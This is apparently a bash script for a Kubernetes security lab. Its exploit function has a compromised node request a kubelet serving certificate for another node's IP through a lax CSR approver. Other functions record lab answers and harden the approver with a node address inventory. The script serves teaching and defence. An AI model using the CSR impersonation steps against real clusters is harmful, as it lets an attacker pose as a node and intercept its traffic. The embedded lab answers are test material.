#!/usr/bin/env bash
# Birth of a node: node-1 gets a certificate for node-2's address, until the approver looks.
set -euo pipefail

api=https://198.51.100.1:6443/apis/certificates.k8s.io/v1/certificatesigningrequests
pem=/var/lib/kubelet/pki/kubelet-client-current.pem

exploit() {
  request=$(minilab exec node-1 -- attacker csr --name system:node:node-1 --organization system:nodes --ip 192.0.2.12 | base64 -w 0)
  minilab exec node-1 -- attacker http "$api" --method POST --identity "$pem" --content-type application/json --plain --data '
    {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "hostile"},
     "spec": {"request": "'"$request"'", "signerName": "kubernetes.io/kubelet-serving", "usages": ["digital signature", "server auth"]}}' | grep HTTP
  for try in $(seq 100); do
    test -z "$(kubectl get csr hostile -o 'jsonpath={.status.certificate}')" || break
    sleep 0.2
  done
}

explain() {
  minilab lab answer issuer kubernetes
  minilab lab answer signer kubernetes.io/kubelet-serving
  minilab lab answer compare a list of which address belongs to which node, from elsewhere
}

harden() {
  minilab harden apiserver-to-kubelet.approval
}

by_hand() {
  minilab exec control -- sh -c 'printf "node-1: [node-1, 192.0.2.11]\nnode-2: [node-2, 192.0.2.12]\n" > /etc/kubernetes/inventory.yaml'
  minilab exec control -- sed -i 's|--approve=any|--approve=inventory\n    - --inventory=/etc/kubernetes/inventory.yaml|' /etc/kubernetes/manifests/csr-approver.yaml
  for try in $(seq 100); do
    minilab status -o json | tr -d ' \n' | grep -q -- '--approve=inventory' && break
    sleep 0.2
  done
}

for part in "${@:-exploit explain harden}"; do
  for one in $part; do "$one"; done
done
